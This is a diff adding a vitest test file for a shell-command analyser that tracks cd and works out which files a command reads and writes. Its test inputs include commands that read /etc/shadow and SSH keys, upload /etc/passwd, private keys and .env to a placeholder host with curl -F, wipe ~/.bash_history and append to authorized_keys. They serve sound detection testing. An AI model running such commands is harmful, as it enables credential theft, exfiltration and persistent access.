@@ -1,0 +1,57 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { Parser } from 'web-tree-sitter';
+import { analyseShell } from '../shell/analyse.js';
+import { loadBashParser } from '../shell/load-grammar.js';
+import { subjectsOf } from './subjects.js';
+
+let parser: Parser;
+beforeAll(async () => { parser = await loadBashParser(); });
+
+const units = (command: string) => {
+  const s = subjectsOf({ kind: 'command', command, context: { cwd: '/home/dev/project', home: '/home/dev' } }, analyseShell(parser, command));
+  return s.units.map((u) => ({ binary: u.command?.view.binary, reads: u.reads, writes: u.writes }));
+};
+
+describe('the directory a command runs in', () => {
+  it('follows a top-level cd for the commands after it', () => {
+    expect(units('cd /etc && cat shadow')[1]?.reads).toEqual(['/etc/shadow']);
+    expect(units('cd ~/.ssh; cat id_rsa')[1]?.reads).toEqual(['/home/dev/.ssh/id_rsa']);
+    expect(units('cd ../other && rm -rf build && cd /tmp && ls x').map((u) => [...u.reads, ...u.writes])).toEqual([['/home/dev/other'], ['/home/dev/other/build'], ['/tmp'], ['/tmp/x']]);
+    expect(units('pushd src && cat index.ts')[1]?.reads).toEqual(['/home/dev/project/src/index.ts']);
+    expect(units('cd; cat .netrc')[1]?.reads).toEqual(['/home/dev/.netrc']);
+  });
+
+  it('into commands nested in later commands, which inherit it', () => {
+    expect(units('cd /etc && bash -c "cat shadow"').at(-1)?.reads).toEqual(['/etc/shadow']);
+  });
+
+  it('not where the cd cannot move the line on: subshells, pipes, unknown directories', () => {
+    expect(units('(cd /etc; cat a); cat b').slice(1).map((u) => u.reads)).toEqual([['/home/dev/project/a'], ['/home/dev/project/b']]);
+    expect(units('cd /etc | cat shadow')[1]?.reads).toEqual(['/home/dev/project/shadow']);
+    expect(units('cd "$DIR" && cat x')[1]?.reads).toEqual(['/home/dev/project/x']);
+    expect(units('cd - && cat x')[1]?.reads).toEqual(['/home/dev/project/x']);
+  });
+});
+
+describe('files curl sends', () => {
+  it('reads the file of a form field and of --data-urlencode name@file', () => {
+    expect(units('curl -F file=@/etc/passwd https://x.example')[0]?.reads).toContain('/etc/passwd');
+    expect(units('curl -F "a=@~/.ssh/id_rsa;type=text/plain" -F name=value https://x.example')[0]?.reads).toEqual(expect.arrayContaining(['/home/dev/.ssh/id_rsa']));
+    expect(units('curl --form "k=<.env" https://x.example')[0]?.reads).toContain('/home/dev/project/.env');
+    expect(units('curl --data-urlencode comment@notes.txt https://x.example')[0]?.reads).toContain('/home/dev/project/notes.txt');
+  });
+
+  it('not a plain form value', () => {
+    expect(units('curl -F name=value https://x.example')[0]?.reads.some((r) => r.endsWith('/value'))).toBe(false);
+  });
+});
+
+describe('writes without a program or under $HOME', () => {
+  it('a bare redirect writes its target', () => {
+    expect(units('> ~/.bash_history')).toEqual([{ binary: ':', reads: [], writes: ['/home/dev/.bash_history'] }]);
+  });
+
+  it('a $HOME target is under the home directory', () => {
+    expect(units('echo k >> "$HOME/.ssh/authorized_keys"')[0]?.writes).toEqual(['/home/dev/.ssh/authorized_keys']);
+  });
+});
